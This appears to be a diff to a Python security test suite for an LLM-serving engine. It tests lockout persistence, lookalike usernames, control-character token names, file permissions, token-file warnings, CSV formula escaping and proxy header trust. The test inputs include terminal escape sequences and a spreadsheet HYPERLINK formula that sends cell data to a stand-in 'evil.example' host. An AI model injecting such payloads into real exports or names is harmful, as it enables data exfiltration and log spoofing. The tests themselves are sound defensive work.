@@ -4,7 +4,15 @@ hold. On a real SQLite file with vLLM not started (autostart off); the concurren
 
 from __future__ import annotations
 
+import csv
+import io
+import json
+import os
+import re
 import sqlite3
+import stat
+import subprocess
+import sys
 import threading
 from collections.abc import Callable, Iterator
 from concurrent.futures import ThreadPoolExecutor
@@ -18,7 +26,7 @@ from fastapi.testclient import TestClient
 from engine.access import Auth
 from engine.app import create_app
 from engine.config import AppConfig
-from tests.support.engine import ADMIN_PASSWORD
+from tests.support.engine import ADMIN_PASSWORD, REPO, running_engine
 from tests.support.served import serve
 from tests.support.wait import wait_until
 
@@ -286,3 +294,110 @@ def test_a_failed_anonymous_sign_in_is_not_recorded_under_the_name_it_claimed(
     assert [(r["actor"], r["result"]) for r in rows] == [("admin", 200)]  # only the sign-in that was admin's
     counted = client.get("/api/audit/tallies", params={"action": "auth.login"}, headers=root).json()
     assert [(t["target"], t["result"], t["count"]) for t in counted] == [("user admin", 401, 1)]
+
+
+def test_a_non_users_lockout_survives_a_restart_like_a_users(data_dir: Path) -> None:
+    """Unknown-name lockouts lived in memory: after a restart an attacker could tell users from non-users."""
+    config = AppConfig(data_dir=data_dir, autostart=False, admin_password=ADMIN_PASSWORD, login_max_failures=3,
+                       login_lockout_s=600)
+
+    def attempt(client: TestClient, name: str) -> int:
+        return client.post("/api/auth/login", json={"username": name, "password": "wrong-password"}).status_code
+
+    with TestClient(create_app(config)) as client:
+        for name in ("admin", "nobody"):
+            assert [attempt(client, name) for _ in range(4)] == [401, 401, 401, 423]
+    with TestClient(create_app(config)) as client:  # the engine restarted
+        assert attempt(client, "admin") == attempt(client, "nobody") == 423
+
+
+@pytest.mark.parametrize(("name", "why"), [("Admin", "exists"), ("ADMIN", "exists"), ("adm1n", "looks like"),
+                                           ("admln", "looks like"), ("\u0430dmin", "username"),
+                                           ("ad\u200bmin", "username")])
+def test_a_user_name_that_is_or_looks_like_another_is_refused(keyed: tuple[TestClient, dict[str, str], Any],
+                                                             name: str, why: str) -> None:
+    client, root, _ = keyed
+    resp = client.post("/api/users", json={"username": name, "password": "long-enough-pw", "role": "admin"},
+                       headers=root)
+    assert resp.status_code == 422 and why in resp.text, (name, resp.text)
+    assert [u["username"] for u in client.get("/api/users", headers=root).json()] == ["admin"]
+
+
+@pytest.mark.parametrize("name", ["ci\nrevoked", "ci\x1b[2K\x1b[1Gadmin", "ci\u202egol", "ci\x00"])
+def test_a_token_name_with_control_characters_is_refused(keyed: tuple[TestClient, dict[str, str], Any],
+                                                         name: str) -> None:
+    client, root, _ = keyed
+    resp = client.post("/api/tokens", json={"name": name, "role": "viewer"}, headers=root)
+    assert resp.status_code == 422 and resp.json()["detail"][0]["loc"] == ["body", "name"], resp.text
+    assert "control or invisible character" in resp.text
+    assert [t["name"] for t in client.get("/api/tokens", headers=root).json()] == ["root"]
+
+
+def llmops(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
+    return subprocess.run([sys.executable, "-m", "engine.cli", *args], capture_output=True, text=True, cwd=REPO,
+                          timeout=120, env={**{k: v for k, v in os.environ.items() if k != "LLMOPS_TOKEN"},
+                                            **(env or {})})
+
+
+def test_the_cli_escapes_names_refuses_control_characters_and_says_expired(tmp_path: Path) -> None:
+    data = tmp_path / "data"
+    refused = llmops("token", "create", "--role", "viewer", "--name", "x\x1b[31mred", "--data-dir", str(data))
+    assert refused.returncode != 0 and "control or invisible character" in refused.stderr
+    assert "\x1b" not in refused.stderr
+    conn = sqlite3.connect(data / "llmops.db")  # made before names were checked: a name with an escape sequence
+    conn.execute("INSERT INTO api_token (name, digest, prefix, role, kind, created_by, created_at) "
+                 "VALUES (?, 'd1', 'llmops_abc', 'viewer', 'api', 'x', 0)", ("old\x1b[2K\rfake line",))
+    conn.execute("INSERT INTO api_token (name, digest, prefix, role, kind, created_by, created_at, expires_at) "
+                 "VALUES ('stale', 'd2', 'llmops_def', 'viewer', 'api', 'x', 0, 1)")
+    conn.commit()
+    conn.close()
+    listing = llmops("token", "list", "--data-dir", str(data)).stdout
+    assert "\x1b" not in listing and "\r" not in listing and "old\\x1b[2K\\rfake line" in listing
+    assert re.search(r"stale\s+viewer\s+api\s+expired", listing), listing
+
+
+def test_the_cli_leaves_a_fresh_data_dir_private(tmp_path: Path) -> None:
+    data = tmp_path / "fresh"
+    assert llmops("token", "create", "--role", "viewer", "--data-dir", str(data)).returncode == 0
+    assert stat.S_IMODE(os.stat(data).st_mode) == 0o700
+    assert stat.S_IMODE(os.stat(data / "run").st_mode) == 0o700
+    files = list(data.glob("llmops.db*"))
+    assert files and {stat.S_IMODE(os.stat(f).st_mode) for f in files} == {0o600}
+
+
+def test_the_cli_reads_a_token_file_and_warns_of_one_on_the_command_line(data_dir: Path, tmp_path: Path) -> None:
+    app = create_app(AppConfig(data_dir=data_dir, autostart=False, admin_password=ADMIN_PASSWORD))
+    token = app.state.services.auth.create_token("cli", "viewer")[0]
+    secret = tmp_path / "token"
+    secret.write_text(token + "\n")
+    secret.chmod(0o600)
+    with serve(app) as url:
+        from_file = llmops("status", "--engine-url", url, "--token-file", str(secret))
+        assert from_file.returncode == 0 and "state: stopped" in from_file.stdout, from_file.stderr
+        assert "warning" not in from_file.stderr
+        inline = llmops("status", "--engine-url", url, "--token", token)
+        assert inline.returncode == 0 and "--token is visible to every user" in inline.stderr
+        assert "LLMOPS_TOKEN" in inline.stderr and "--token-file" in inline.stderr
+        assert llmops("status", "--engine-url", url, env={"LLMOPS_TOKEN": token}).returncode == 0
+
+
+def test_a_csv_export_cell_never_starts_a_formula(keyed: tuple[TestClient, dict[str, str], Any]) -> None:
+    client, root, _ = keyed
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    made = client.post("/api/tokens", json={"name": formula, "role": "operator"}, headers=root).json()
+    client.post("/api/engine/stop", headers=bearer(made["token"]))  # acts: the audit's actor is the token's name
+    exported = client.get("/api/audit/export", params={"format": "csv"}, headers=root).text
+    cells = [c for row in csv.reader(io.StringIO(exported)) for c in row]
+    assert "'" + formula in cells
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+def test_forwarded_headers_are_believed_only_from_configured_proxies(tmp_path: Path) -> None:
+    """uvicorn believed X-Forwarded-For from any loopback peer: any local user could write the audit's source."""
+    forged = {"x-forwarded-for": "203.0.113.9"}
+    for proxies, expected in (([], "127.0.0.1"), (["127.0.0.1"], "203.0.113.9")):
+        env = {"LLMOPS_AUTOSTART": "false", "LLMOPS_TRUSTED_PROXIES": json.dumps(proxies)}
+        with running_engine(tmp_path / f"p{len(proxies)}", env, demo=False) as engine:
+            assert httpx.post(f"{engine.url}/api/auth/login", headers=forged,
+                              json={"username": "admin", "password": ADMIN_PASSWORD}).status_code == 200
+            assert [r.source for r in engine.client.audit(action="auth.login")] == [expected]
